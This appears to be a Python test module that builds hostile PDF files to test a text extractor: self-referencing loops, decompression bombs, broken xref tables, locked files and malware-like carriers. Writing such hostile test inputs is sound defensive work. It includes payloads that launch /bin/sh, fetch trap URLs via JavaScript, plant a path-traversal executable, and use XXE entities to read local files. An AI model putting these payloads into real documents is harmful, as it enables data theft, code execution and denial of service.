"""PDF files that loop, swell, lie, hide programs or are cut."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Iterator

import pypdf

from tests.extractors.hostile.case import (
    FAILED,
    LOCKED,
    PARTLY,
    READ,
    SCAN,
    SET_ASIDE,
    Hostile,
    Trap,
    fixed,
    hostile,
)
from tests.extractors.hostile.pdf_parts import (
    LETTER,
    assembled,
    catalog,
    deflated,
    letter,
    letter_objects,
    page,
    shown,
    stream,
)

ANY = (READ, PARTLY, SET_ASIDE, FAILED, SCAN)
"""Loops may be unwound, or stop the reader: either is an honest end."""


def cases() -> Iterator[Hostile]:
    """All PDF cases."""
    yield from _loops()
    yield from _bombs()
    yield from _shapes()
    yield from _broken()
    yield from _carriers()


def _loops() -> Iterator[Hostile]:
    kids = b"<< /Type /Pages /Parent 2 0 R /Kids [%s] /Count 2 >>"
    item = b"<< /Title (Chapter) /Parent 6 0 R /Next 7 0 R /Prev 7 0 R /First 7 0 R /Dest [3 0 R /Fit] >>"
    outlines = {6: b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>", 7: item}
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
    selfish = {3: page(), 4: stream(shown(LETTER) + b" /X Do"), 6: stream(b"/X Do /X Do", form)}
    inherited = {3: page().replace(b"/Parent 2 0 R", b"/Parent 3 0 R")}
    loops: tuple[tuple[str, bytes, str, str], ...] = (
        ("previous", letter(trailer=b"/Prev {start}"), "a /Prev that names its own table", LETTER),
        ("page-tree", letter({2: kids % b"3 0 R 2 0 R"}), "a page tree that holds itself", ""),
        ("outline", letter(catalog(b"/Outlines 6 0 R") | outlines), "an outline without end", LETTER),
        ("form-itself", letter(selfish), "a form that draws itself", ""),
        ("form-fan-out", _fan_out(), "ten forms that each draw the next ten times", ""),
        ("parent", letter(inherited), "a page that is its own parent", ""),
        ("length", letter({4: b"<< /Length 4 0 R >>\nstream\n(x) Tj\nendstream"}), "its own length", ""),
        ("reference", letter({4: b"4 0 R"}), "an object that is only a reference to itself", ""),
        ("object-streams", _object_streams(), "two object streams that extend each other", ""),
        ("names", letter(_looping_names()), "a name tree of attachments that holds itself", LETTER),
        ("threads", letter({5: b"<< /Type /Font /Subtype /Type0 /DescendantFonts [5 0 R] >>"}), "a font", ""),
    )
    for name, data, note, told in loops:
        ends = (READ, PARTLY) if told else ANY
        yield hostile(f"loop-{name}.pdf", fixed(data), *ends, note=note, told=told)


def _looping_names() -> dict[int, bytes]:
    return catalog(b"/Names << /EmbeddedFiles 6 0 R >>") | {6: b"<< /Kids [6 0 R 6 0 R] >>"}


def _fan_out() -> bytes:
    objects = letter_objects() | {4: stream(shown(LETTER) + b" /X Do")}
    for number in range(6, 16):
        after = number + 1 if number < 15 else 15
        form = b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /X %d 0 R >> >>"
        drawn = b"/X Do " * 10 if number < 15 else b"0 0 m 9 9 l S"
        objects[number] = stream(drawn, form % after)
    return assembled(objects)


def _object_streams() -> bytes:
    """Objects 6 and 7 are object streams, each said to extend the other; the catalog lies in the first."""
    held = b"1 0 2 34 << /Type /Catalog /Pages 2 0 R >>  << /Type /Pages /Kids [3 0 R] /Count 1 >>"
    objects = {key: body for key, body in letter_objects().items() if key > 2}
    objects[6] = deflated(held, b"/Type /ObjStm /N 2 /First 9 /Extends 7 0 R")
    objects[7] = deflated(b"6 0 << >>", b"/Type /ObjStm /N 1 /First 4 /Extends 6 0 R")
    return assembled(objects)


def _bombs() -> Iterator[Hostile]:
    ends = (READ, PARTLY, SET_ASIDE, FAILED, SCAN)
    yield hostile("bomb-flate.pdf", _flate_bomb, *ends, note="400 MiB in one deflated stream", dear=True)
    yield hostile("bomb-flate-twice.pdf", _double_bomb, *ends, note="deflated twice, 1 GiB", dear=True)
    yield hostile("bomb-lzw.pdf", _lzw_bomb, *ends, note="an LZW stream that says one byte for ever")
    yield hostile("bomb-runs.pdf", _run_bomb, *ends, note="run lengths, ascii hex, and deflate in a row")
    yield hostile("bomb-array.pdf", _huge_array, *ends, note="an array of two million numbers")
    yield hostile("bomb-arrays.pdf", lambda _: _nested(b"[", b"]"), *ends, note="100,000 nested arrays")
    yield hostile("bomb-dicts.pdf", lambda _: _nested(b"<</A", b">>"), *ends, note="100,000 nested dicts")
    yield hostile("bomb-brackets.pdf", _nested_content, *ends, note="100,000 open arrays in the content")
    yield hostile("bomb-states.pdf", _saved_states, *ends, note="a million saved graphics states")
    yield hostile("bomb-pages.pdf", lambda _: _many_pages(20_000), *ends, note="20,000 pages", dear=True)
    yield hostile("bomb-more-pages.pdf", lambda _: _many_pages(30_000), SET_ASIDE, note="too many pages")
    yield hostile("bomb-words.pdf", _long_page, *ends, note="1.6 million characters on a page", dear=True)
    yield hostile("bomb-picture.pdf", _huge_picture, *ends, note="a picture of 60,000 by 60,000 dots")
    yield hostile("bomb-notes.pdf", _many_notes, *ends, note="20,000 notes on a page", told=LETTER)
    yield hostile("bomb-count.pdf", _false_count, *ends, note="a page tree that claims two billion pages")
    yield hostile("bomb-predictor.pdf", _predictor, *ends, note="a predictor of two billion columns")


def _flate_bomb(_: Trap) -> bytes:
    return letter({4: deflated(shown(LETTER) + b" " * (400 << 20))})


def _double_bomb(_: Trap) -> bytes:
    packer, parts = zlib.compressobj(9), []
    for _n in range(64):
        parts.append(packer.compress(b" " * (16 << 20)))
    inner = b"".join(parts) + packer.flush()
    return letter({4: stream(zlib.compress(inner, 9), b"/Filter [/FlateDecode /FlateDecode]")})


def _lzw_bomb(_: Trap) -> bytes:
    """Each code names the entry before and one byte more, until the table is full: then again."""
    bits = "".join(
        format(256, "09b") + "".join(_lzw_code(number) for number in range(3800)) for _n in range(8)
    )
    packed = int(bits + "0" * (-len(bits) % 8), 2).to_bytes((len(bits) + 7) // 8)
    return letter({4: stream(packed * 40, b"/Filter /LZWDecode")})


def _lzw_code(number: int) -> str:
    code = 32 if number == 0 else 257 + number
    width = 9 if 258 + number < 512 else 10 if 258 + number < 1024 else 11 if 258 + number < 2048 else 12
    return format(min(code, (1 << width) - 1), f"0{width}b")


def _run_bomb(_: Trap) -> bytes:
    runs = zlib.compress((b"\x81 " * 400_000).hex().encode() + b">", 9)
    return letter({4: stream(runs, b"/Filter [/FlateDecode /ASCIIHexDecode /RunLengthDecode]")})


def _huge_array(_: Trap) -> bytes:
    return letter({3: page(b"/Odd [" + b"0 " * 2_000_000 + b"]")})


def _nested(opening: bytes, closing: bytes) -> bytes:
    return letter({3: page(b"/Odd " + opening * 100_000 + b" 0 " + closing * 100_000)})


def _nested_content(_: Trap) -> bytes:
    return letter({4: stream(b"[" * 100_000 + shown(LETTER))})


def _saved_states(_: Trap) -> bytes:
    return letter({4: deflated(b"q " * 1_000_000 + shown(LETTER))})


def _many_pages(count: int) -> bytes:
    objects = letter_objects()
    objects[2] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b"3 0 R " * count, count)
    return assembled(objects)


def _long_page(_: Trap) -> bytes:
    lines = (f"1 0 0 1 20 {780 - row % 760} Tm ({'letter of words ' * 10}) Tj" for row in range(10_000))
    return letter({4: deflated(b"BT /F1 1.6 Tf " + " ".join(lines).encode() + b" ET")})


def _huge_picture(_: Trap) -> bytes:
    entries = b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 "
    picture = deflated(bytes(4_000_000), entries + b"/ColorSpace /DeviceRGB")
    return letter({4: stream(b"q 600 0 0 700 0 0 cm /X Do Q"), 6: picture})


def _many_notes(_: Trap) -> bytes:
    note = b"<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents (a note) >> "
    return letter({3: page(b"/Annots [" + note * 20_000 + b"]")})


def _false_count(_: Trap) -> bytes:
    return letter({2: b"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>"})


def _predictor(_: Trap) -> bytes:
    wide = b"/DecodeParms << /Predictor 12 /Columns 2147483647 /Colors 4 /BitsPerComponent 16 >>"
    return letter({4: deflated(shown(LETTER), wide)})


def _shapes() -> Iterator[Hostile]:
    boxes = (
        b"[0 0 0 0]",
        b"[nan nan nan nan]",
        b"[0 0 1e38 1e38]",
        b"[612 792 0 0]",
        b"[0 0 -5 -5]",
        b"null",
    )
    for number, box in enumerate(boxes):
        data = letter({3: page(box=box)})
        note = f"a page of the size {box.decode()}"
        yield hostile(f"box-{number}.pdf", fixed(data), *ANY, note=note)
    yield hostile("box-letters.pdf", _endless_letters, *ANY, note="letters of a size beyond any page")
    none = letter({2: b"<< /Type /Pages /Kids [] /Count 0 >>"})
    yield hostile("no-pages.pdf", fixed(none), FAILED, note="a PDF of zero pages")
    blank = letter({4: stream(b"")})
    yield hostile("blank.pdf", fixed(blank), FAILED, SCAN, note="one page with nothing on it")
    turned = letter({3: page(b"/Rotate 37 /UserUnit 1e30")})
    yield hostile("turned.pdf", fixed(turned), *ANY, note="a page turned by 37 degrees, in huge units")


def _endless_letters(_: Trap) -> bytes:
    return letter({4: stream(shown(LETTER, 1e30) + b" 1e38 0 0 1e38 1e38 1e38 cm " + shown(LETTER, 1e-30))})


def _broken() -> Iterator[Hostile]:
    whole = letter()
    for percent in (1, 5, 20, 40, 60, 75, 90, 97, 99):
        cut = whole[: max(9, len(whole) * percent // 100)]
        name = f"cut-at-{percent}.pdf"
        yield hostile(name, fixed(cut), *ANY, note=f"cut after {percent} %")
    garbage = whole.replace(b"0000000", b"9\xff(<[x0", 4)
    yield hostile("xref-garbage.pdf", fixed(garbage), *ANY, note="a table of nonsense")
    far = whole.replace(b"startxref\n", b"startxref\n99999999999999999999")
    yield hostile("xref-far.pdf", fixed(far), *ANY, note="a table said to lie far outside")
    sized = whole.replace(b"/Size 6", b"/Size 2147483647")
    yield hostile("xref-size.pdf", fixed(sized), *ANY, note="two billion objects claimed")
    widths = assembled(letter_objects() | {6: stream(b"x" * 90, b"/Type /XRef /W [9 999999999 9] /Size 6")})
    yield hostile("xref-widths.pdf", fixed(widths), *ANY, note="a table with columns a gigabyte wide")
    for word in ("", "secret"):
        locked = _locked(word)
        ends = (LOCKED,) if word else (READ,)
        note = "locked with a password" if word else "encrypted, with the empty password"
        yield hostile(f"locked-{word or 'open'}.pdf", fixed(locked), *ends, note=note)
    odd = letter({6: b"<< /Filter /Standard /V 99 /R 99 /O (x) /U (x) /P -1 >>"}, b"/Encrypt 6 0 R")
    yield hostile("locked-oddly.pdf", fixed(odd), LOCKED, *ANY, note="an encryption that nobody knows")
    yield hostile("header-only.pdf", lambda _: b"%PDF-1.7\n", FAILED, note="a header alone")


def _locked(word: str) -> bytes:
    writer = pypdf.PdfWriter(io.BytesIO(letter()))
    writer.encrypt(word, owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _carriers() -> Iterator[Hostile]:
    yield hostile("script.pdf", _script, READ, PARTLY, note="scripts and launch actions", told=LETTER)
    yield hostile("program-inside.pdf", _program, READ, PARTLY, note="a program as attachment", told=LETTER)
    yield hostile("both-pdf-and-zip.pdf", _polyglot, READ, note="a PDF that is a ZIP too", told=LETTER)
    yield hostile("late-header.pdf", lambda _: b"MZ" + b" " * 900 + letter(), *ANY, note="a late header")
    yield hostile("xfa.pdf", _xfa, READ, PARTLY, SET_ASIDE, note="an XFA form with an external entity")
    yield hostile("remote-stream.pdf", _remote, *ANY, note="a stream that lies in another file")


def _script(trap: Trap) -> bytes:
    actions = (
        b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('http://%s/'\\)) >> /AA << /WC << /S /Launch "
        b"/F (/bin/sh) >> >> /URI << /Base (http://%s/) >>" % (trap.address.encode(), trap.address.encode())
    )
    goes = b"/AA << /O << /S /SubmitForm /F (http://%s/) >> >>" % trap.address.encode()
    return letter(catalog(actions) | {3: page(goes)})


def _program(_: Trap) -> bytes:
    named = b"/Names << /EmbeddedFiles << /Names [(x) 6 0 R] >> >>"
    place = b"<< /Type /Filespec /F (../../run.exe) /UF (../../run.exe) /EF << /F 7 0 R >> >>"
    return letter(catalog(named) | {6: place, 7: stream(b"MZ" + bytes(300), b"/Type /EmbeddedFile")})


def _polyglot(_: Trap) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("run.exe", b"MZ" + bytes(50))
    return letter() + b"\n%" + out.getvalue() + b"\nstartxref\n0\n%%EOF\n"


def _xfa(trap: Trap) -> bytes:
    form = (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY leak SYSTEM "file://{trap.file}"><!ENTITY call SYSTEM '
        f'"http://{trap.address}/x">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><a>&leak;&call;</a></xdp:xdp>'
    )
    return letter(catalog(b"/AcroForm << /Fields [] /XFA 6 0 R >>") | {6: stream(form.encode())})


def _remote(trap: Trap) -> bytes:
    entries = b"/F << /FS /URL /F (http://%s/x) >> /FFilter /FlateDecode" % trap.address.encode()
    local = b"/F (%s)" % trap.file.encode()
    return letter({4: stream(b"", entries), 5: stream(b"", local)})
